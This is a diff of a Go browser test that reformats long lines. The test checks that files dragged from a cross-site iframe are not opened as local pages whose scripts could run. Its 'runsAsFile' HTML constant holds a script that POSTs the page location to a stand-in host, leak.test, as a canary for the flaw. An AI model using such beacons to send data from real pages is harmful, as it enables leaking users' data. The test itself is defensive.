@@ -14,12 +14,14 @@ import (
 )
 
 // draggingPage drags what its frame's script has made ready, and says when it began.
-const draggingPage = `<title>dragging</title><body style="margin: 0"><div draggable=true style="width: 200px; height: 200px">drag</div><input type=file><script>
+const draggingPage = `<title>dragging</title><body style="margin: 0"><div draggable=true style="width: 200px; height: ` +
+	`200px">drag</div><input type=file><script>
 	document.ondragstart = e => { add(e.dataTransfer); document.title = "began" }
 </script>`
 
 // runsAsFile tells a site of the test's, and would have Chrome download any file of the machine.
-const runsAsFile = `<title>it ran</title><script>fetch("http://leak.test/ran", {method: "POST", mode: "no-cors", body: location.href})</script>`
+const runsAsFile = `<title>it ran</title><script>fetch("http://leak.test/ran", {method: "POST", mode: "no-cors", body: ` +
+	`location.href})</script>`
 
 // dragSite has a page with the frame of another site, which drags, and counts files that ran as pages.
 func dragSite(p *profile) (ran *atomic.Int32) {
@@ -30,14 +32,15 @@ func dragSite(p *profile) (ran *atomic.Int32) {
 			_, _ = io.WriteString(w, html)
 		})
 	}
-	page("/outer", `<title>outer</title><body style="margin: 0"><iframe src="http://b.test/inner" style="border: 0; width: 400px; height: 400px"></iframe>`)
+	page("/outer", `<title>outer</title><body style="margin: 0"><iframe src="http://b.test/inner" style="border: 0; width: 400px; `+
+		`height: 400px"></iframe>`)
 	page("/inner", draggingPage)
 	p.site.Mux.HandleFunc("/ran", func(http.ResponseWriter, *http.Request) { ran.Add(1) })
 	return ran
 }
 
-// TestHandedFilesAreNoPages: a file that a client was allowed to hand to a page, or that a page keeps, is not opened as a page at a browser with windows
-// either, when it is dragged onto a page that does not want it: its scripts would run as a file's.
+// TestHandedFilesAreNoPages: a file that a client was allowed to hand to a page, or that a page keeps, is not opened as a page at a browser
+// with windows either, when it is dragged onto a page that does not want it: its scripts would run as a file's.
 func TestHandedFilesAreNoPages(t *testing.T) {
 	for _, folder := range []string{"plain", "a b%41ü#?", "[odd]"} {
 		t.Run(folder, func(t *testing.T) {
@@ -62,8 +65,10 @@ func TestHandedFilesAreNoPages(t *testing.T) {
 			c := dial(t, serveGatewayTo(t, b, false)+"/")
 			for way, ready := range map[string]string{
 				"handed": `add = data => data.items.add(document.querySelector("input").files[0])`,
-				"kept": `new Promise((yes, no) => webkitRequestFileSystem(TEMPORARY, 1e6, fs => fs.root.getFile("kept.html", {create: true}, entry => entry.createWriter(w => {
-					w.onwriteend = () => entry.file(f => { add = data => data.items.add(f); yes() }, no); w.write(new Blob([` + "`" + runsAsFile + "`" + `])) }, no), no), no))`,
+				"kept": `new Promise((yes, no) => webkitRequestFileSystem(TEMPORARY, 1e6, fs => fs.root.getFile("kept.html", {create: ` +
+					`true}, entry => entry.createWriter(w => {
+					w.onwriteend = () => entry.file(f => { add = data => data.items.add(f); yes() }, no);
+					w.write(new Blob([` + "`" + runsAsFile + "`" + `])) }, no), no), no))`,
 			} {
 				opened := c.drag(b, own, ready)
 				if !strings.HasPrefix(opened, "chrome-error:") {
@@ -90,13 +95,15 @@ func (c *tester) drag(b *Browser, file, ready string) (document string) {
 	}
 	c.becomes(inner, "document.title", `"dragging"`)
 	var input struct{ Result struct{ ObjectID string } }
-	if err := json.Unmarshal(c.call(inner, "Runtime.evaluate", map[string]any{"expression": `document.querySelector("input")`}), &input); err != nil {
+	if err := json.Unmarshal(c.call(inner, "Runtime.evaluate", map[string]any{"expression": `document.querySelector("input")`}),
+		&input); err != nil {
 		c.t.Fatal(err)
 	}
 	c.call(inner, "DOM.setFileInputFiles", map[string]any{"objectId": input.Result.ObjectID, "files": []string{file}})
 	c.call(inner, "Runtime.evaluate", map[string]any{"expression": ready, "awaitPromise": true})
 	mouse := func(kind string, x, y, buttons int) {
-		c.call(session, "Input.dispatchMouseEvent", map[string]any{"type": kind, "x": x, "y": y, "button": "left", "buttons": buttons, "clickCount": 1})
+		c.call(session, "Input.dispatchMouseEvent",
+			map[string]any{"type": kind, "x": x, "y": y, "button": "left", "buttons": buttons, "clickCount": 1})
 	}
 	testnet.Eventually(c.t, "the drag begins", func() bool { // once the frame's picture is there to be hit
 		mouse("mouseReleased", 50, 50, 0)
@@ -114,7 +121,8 @@ func (c *tester) drag(b *Browser, file, ready string) (document string) {
 		}
 		for _, target := range targets {
 			tab, known := b.mux.controller.page(target.TargetID)
-			if isFile(target.URL) && known && b.mux.controller.evaluate(c.t.Context(), tab, "location.href", &document) == nil && document != BlankPage {
+			if isFile(target.URL) && known && b.mux.controller.evaluate(c.t.Context(), tab, "location.href", &document) == nil &&
+				document != BlankPage {
 				b.closeAndWait(target.TargetID)
 				return true
 			}
